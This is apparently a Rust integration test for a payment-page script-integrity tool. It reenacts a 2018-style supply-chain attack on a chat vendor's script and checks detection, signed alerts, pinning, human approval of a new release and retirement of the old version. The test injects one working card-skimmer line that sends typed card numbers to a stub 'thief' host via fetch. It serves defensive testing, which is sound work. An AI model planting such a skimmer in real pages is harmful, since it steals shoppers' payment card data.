//! 2018 again, to its end: a chat vendor's scripts on a payment page, changed at the vendor. The watcher sees it, a
//! webhook is told, visitors are safe and on a mirror undisturbed; a person reviews the next release and approves
//! it; it is live, and the old one is ended.

use std::path::Path;
use std::process::{Command, Output};
use std::sync::Arc;
use std::time::Duration;

use countersign::analysis;
use countersign::app::DriftConfig;

use super::front::{Policies, policy};
use super::{Reply, Setup, Stub, in_browser};
use crate::alerts::receiver::Receiver;

const FORM: &str = "<form><input id=card autocomplete=cc-number></form>";

/// What runs says so in the page.
fn chat(name: &str, version: &str) -> String {
    format!("document.documentElement.dataset.{name} = '{version}';\n")
}

fn countersign(folder: &Path, arguments: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_countersign"));
    command.args(arguments).args(["--by", "alice@shop.example", "--policies"]).arg(folder);
    command.env("GIT_CONFIG_GLOBAL", "/dev/null").env("NO_COLOR", "1").output().unwrap()
}

fn said(output: &Output) -> String {
    let text = [&output.stdout[..], &output.stderr[..]].concat();
    let text = String::from_utf8(text).unwrap();
    assert!(output.status.success(), "{text}");
    text
}

#[test]
fn the_attack_of_2018_is_seen_told_and_harmless_and_the_next_release_goes_live() {
    in_browser(Setup::default(), async |browser| {
        let (shop, vendor, thief) = (Stub::http().await, Stub::http().await, Stub::http().await);
        let receiver = Receiver::refusing(0);
        let serve = |version: &str, more: &str| {
            for name in ["help", "chat"] {
                vendor.set(&format!("/{name}.js"), Reply::script(chat(name, version) + more));
            }
        };
        serve("one", "");
        let [help, chatter] = ["help", "chat"].map(|name| vendor.url_at("localhost", &format!("/{name}.js")));
        let tags = [&help, &chatter].map(|url| format!("<script src='{url}'></script>")).concat();
        let page = format!("<!doctype html><title>Pay</title><link rel=icon href=data:,>{FORM}{tags}");
        shop.set("/", Reply::html(page));
        let scripts = [("help", help.as_str(), "mirror", "/*"), ("chat", chatter.as_str(), "pin", "/*")];
        let policies = Policies::new(&policy(&shop.url(""), &scripts, &[]));
        for name in ["help", "chat"] {
            policies.approve(name, chat(name, "one"));
        }
        let kept = tempfile::tempdir().unwrap();
        let front = policies.start(|config| {
            config.drift = Some(DriftConfig {
                blind_after: Duration::from_hours(1),
                interval: Duration::from_millis(200),
                folder: Some(kept.path().to_owned()),
                allowed: countersign::drift::Allowed { private: true, through_proxy: false },
                patience: Duration::from_secs(20),
                read: Arc::new(analysis::read),
            });
            config.alerts = receiver.config(kept.path());
        });
        let pay = front.url_at("shop.example", "/");
        let ran =
            |name: &str, version: &str| format!("document.documentElement.dataset.{name} === '{version}'");
        browser.open_page(&pay).await;
        for name in ["help", "chat"] {
            browser.until(&ran(name, "one")).await;
        }

        // The vendor's files are changed by somebody.
        let skimmer = format!(
            "document.querySelector('#card').addEventListener('input', \
             event => fetch('{}?' + event.target.value, {{ mode: 'no-cors' }}));",
            thief.url("/card")
        );
        serve("one", &skimmer);
        let told = receiver.until(2).await;
        for alert in &told {
            assert!(alert.is_signed(), "{:#}", alert.json());
            let message = alert.json()["message"].as_str().unwrap().to_owned();
            assert!(message.contains(&thief.url("").replace("http://", "")), "where it sends: {message}");
        }

        // Who pays meanwhile.
        browser.open_page(&pay).await;
        browser.until(&ran("help", "one")).await;
        front.report("script-refused", "/chat.js").await;
        browser.type_into("#card", "4929000000006").await;
        assert!(browser.holds("document.querySelector('#card').value === '4929000000006'").await);
        assert!(!browser.holds(&ran("chat", "one")).await, "the pinned one did not run");
        assert!(thief.received().is_empty(), "{:?}", thief.received());

        // The vendor cleans up, and releases a version that does more.
        serve("two", "navigator.sendBeacon('https://stats.vendor.example/');");
        let review = async |name: &str| {
            let folder = kept.path().join("quarantine/site").join(name);
            super::eventually("the new version, for review", async || {
                let files = std::fs::read_dir(&folder).ok()?.map(|file| file.unwrap().path());
                let mut fits = files.filter(|path| std::fs::read_to_string(path).unwrap().contains("'two'"));
                fits.next()
            })
            .await
        };
        for name in ["help", "chat"] {
            let file = review(name).await;
            let arguments =
                ["approve", name, "--file", file.to_str().unwrap(), "--because", "release two", "--yes"];
            let shown = said(&countersign(front.policies().path(), &arguments));
            assert!(shown.contains("https://stats.vendor.example"), "what it newly reaches: {shown}");
            let gone = format!("document.documentElement.dataset.{name} = \"one\"");
            let mut lines = shown.lines().map(str::trim_start);
            assert!(lines.any(|line| line.starts_with('-') && line.contains(&gone)), "{shown}");
        }
        super::eventually("the new version is live", async || {
            browser.open_page(&pay).await;
            (browser.holds(&ran("help", "two")).await && browser.holds(&ran("chat", "two")).await)
                .then_some(())
        })
        .await;
        front.event("/chat.js serves the approved bytes again").await;

        // The old one is ended: who goes back to it is stopped.
        let old =
            countersign::sri::Digest::of(countersign::sri::Algorithm::Sha384, chat("chat", "one").as_bytes());
        let arguments = ["retire", "chat", "--digest", &old.to_string(), "--because", "replaced", "--yes"];
        said(&countersign(front.policies().path(), &arguments));
        serve("one", "");
        super::eventually("the old one is stopped", async || {
            browser.open_page(&pay).await;
            (browser.holds(&ran("help", "two")).await && !browser.holds(&ran("chat", "one")).await)
                .then_some(())
        })
        .await;
        front.report("script-refused", "/chat.js").await;
        assert!(thief.received().is_empty());
    });
}
